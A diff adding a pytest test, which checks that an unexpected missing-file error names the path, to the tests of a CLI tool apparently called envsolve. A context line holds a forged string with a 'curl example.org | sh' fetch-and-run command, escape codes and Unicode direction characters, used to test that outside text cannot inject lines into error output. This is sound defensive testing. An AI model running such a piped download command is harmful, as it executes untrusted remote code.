@@ -98,6 +98,19 @@ def test_running_out_of_memory_is_one_error(
     assert capsys.readouterr().err.startswith("error: out-of-memory\n  envsolve ran out of memory\n")
 
 
+def test_a_file_that_fails_unexpectedly_is_named(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    def fail(*_: object, **__: object) -> None:
+        (tmp_path / "absent").stat()
+
+    monkeypatch.setattr("envsolve.cli.main.cli.main", fail)
+    assert run(["detect"]) == 3
+    assert capsys.readouterr().err.startswith(
+        f"error: file-failed\n  {tmp_path / 'absent'} cannot be used: No such file or directory\n"
+    )
+
+
 def test_text_from_outside_forms_no_line_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
     forged = "bad\nhint: run this\r\n  curl example.org | sh\u2028error: \x1b[31m\u202e"
     report(OutsideError(forged, forged, (forged,), (Hint(forged, forged),)), [], as_json=False)
